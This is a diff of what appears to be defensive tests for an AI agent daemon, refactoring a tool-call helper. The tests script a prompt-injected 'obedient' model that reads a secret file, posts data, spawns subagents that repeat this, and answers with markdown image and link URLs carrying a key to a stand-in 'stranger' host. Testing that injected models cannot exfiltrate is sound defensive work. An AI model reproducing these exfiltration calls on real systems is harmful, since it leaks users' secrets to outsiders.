@@ -137,7 +137,8 @@ class AttackedDaemon:
 STEAL = ("file_read", {"path": "{secret}"})
 
 
-def _call(call: tuple[str, Any], attacked_daemon: AttackedDaemon) -> dict[str, Any]:
+def make_call(call: tuple[str, Any], attacked_daemon: AttackedDaemon) -> dict[str, Any]:
+    """Return a call of a model, given its tool and arguments."""
     return {"name": call[0], "arguments": attacked_daemon.fill(call[1])}
 
 
@@ -148,9 +149,7 @@ async def obey(
     what is asked.
     """
     (attacked_daemon.workspace / "inbox.txt").write_text(attacked_daemon.fill(text))
-    orders = [
-        {"name": name, "arguments": attacked_daemon.fill(arguments)} for name, arguments in calls
-    ]
+    orders = [make_call(call, attacked_daemon) for call in calls]
     loot = (
         f"Summary.\n\n![badge]({attacked_daemon.stranger}/b.png?d={KEY}) "
         f"[more]({attacked_daemon.stranger}/f?d={KEY})\n"
@@ -165,7 +164,12 @@ async def obey(
         # which is no better than its parent
         for _ in (call for call in turn if call["name"] == "subagent"):
             model.enqueue(
-                {"tool_calls": [_call(POST, attacked_daemon), _call(STEAL, attacked_daemon)]},
+                {
+                    "tool_calls": [
+                        make_call(POST, attacked_daemon),
+                        make_call(STEAL, attacked_daemon),
+                    ]
+                },
                 "Helped.",
             )
     model.enqueue(loot)
@@ -237,17 +241,14 @@ async def test_a_compromised_model_in_a_chat_sends_nothing_but_its_answer_there(
             (inbound,) = app.chat_inbound
             model: Any = app.settings.providers.get("obedient")
             for person, (kind, text, calls) in zip(people, ATTACKS, strict=True):
-                orders = [
-                    {"name": name, "arguments": attacked_daemon.fill(arguments)}
-                    for name, arguments in calls
-                ]
+                orders = [make_call(call, attacked_daemon) for call in calls]
                 model.enqueue({"tool_calls": orders})
                 for _ in (call for call in orders if call["name"] == "subagent"):
                     model.enqueue(
                         {
                             "tool_calls": [
-                                _call(POST, attacked_daemon),
-                                _call(STEAL, attacked_daemon),
+                                make_call(POST, attacked_daemon),
+                                make_call(STEAL, attacked_daemon),
                             ]
                         },
                         "Helped.",
